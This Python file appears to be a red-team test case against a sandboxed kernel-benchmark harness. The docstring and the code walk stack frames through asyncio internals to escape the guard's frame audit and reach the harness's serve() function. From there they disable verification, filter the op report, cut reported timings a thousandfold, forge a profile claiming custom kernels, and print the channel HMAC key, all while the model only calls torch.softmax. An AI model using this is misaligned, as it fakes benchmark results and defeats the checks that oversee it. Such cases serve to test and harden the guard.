"""serve()'s frame reached in pure Python (no ctypes), at import time.

asyncio.base_tasks._task_get_stack(task, limit) reads task._coro.gi_frame (audited) and then walks f_back
(not audited), handing every frame above back to its caller. It is not in the guard's hands_out_frames
list (only inspect.py and traceback.walk_stack are), its code names gi_frame (so it is no "indirection"),
and with two nested torch.utils._pytree.tree_map calls between it and the solution, no solution frame is
within NEAR=4 frames of the event. During the import the guard's phase is "load", where such an event
is allowed. The generator that is passed is running, so its frame's f_back chain goes through the import
machinery up to harness/child.py:serve. From there, as in x09_ctypes_pointer_frames: closure cells rewritten (op recorder
reply filtered, timings /1000, profile forged, checkpoint off), channel key read.
Forward is torch.softmax, the reference op (caught as not-custom-kernel without the trick: e14)."""
import sys
from asyncio import base_tasks
from functools import partial
from types import SimpleNamespace

import torch
import torch.nn as nn
from torch.utils._pytree import tree_map

_CORE = {"_softmax", "softmax", "_safe_softmax"}


def _note(text):
    sys.stderr.write("[x09_asyncio] " + text + "\n")


def _frames_gen():
    holder = SimpleNamespace(_coro=_gen)
    get = partial(base_tasks._task_get_stack, limit=None)
    yield tree_map(partial(tree_map, partial(tree_map, get)), [[[holder]]])


_gen = _frames_gen()
_frames = next(_gen)
_frames = _frames[0][0][0]  # three tree_map levels
_serve = None
for _f in _frames:
    if repr(_f).endswith(" code serve>"):
        _serve = _f
del _frames, _f


def _cells(fn):
    return getattr(fn, "__clo" + "sure__") or ()


def _get(cell):
    return getattr(cell, "cell_" + "contents")


def _put(cell, value):
    setattr(cell, "cell_" + "contents", value)


def _attack(serve):
    env = getattr(serve, "f_" + "locals")
    call_fn = env["handlers"]["call"][1]
    real = env["messages"]
    cells = {}
    for c in _cells(call_fn):
        for name in ("messages", "verify"):
            if _get(c) is env[name]:
                cells[name] = c
    for c in _cells(env["send"]):
        v = _get(c)
        if callable(v) and getattr(v, "__name__", "") == "tag":
            for c2 in _cells(v):
                k = _get(c2)
                if type(k) is bytes and len(k) == 32:
                    _note("channel HMAC key = " + k.hex())

    class FakeMessages:
        def __getattr__(self, name):
            return getattr(real, name)

        @staticmethod
        def CallReply(ops):
            return real.CallReply([o for o in ops if o not in _CORE])

        @staticmethod
        def TimeReply(times):
            return real.TimeReply([t / 1000.0 for t in times])

        @staticmethod
        def ProfileReply(**r):
            r = dict(r)
            r["own_kernels"], r["own_share"] = max(1, r.get("kernel_count", 1)), 1.0
            return real.ProfileReply(**r)

    _put(cells["messages"], FakeMessages())
    _put(cells["verify"], lambda phase: None)
    _note("serve() reached in pure Python; cells replaced: " + ", ".join(sorted(cells)))


if _serve is not None:
    _attack(_serve)
else:
    _note("serve frame not found")


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.softmax(x, dim=-1)
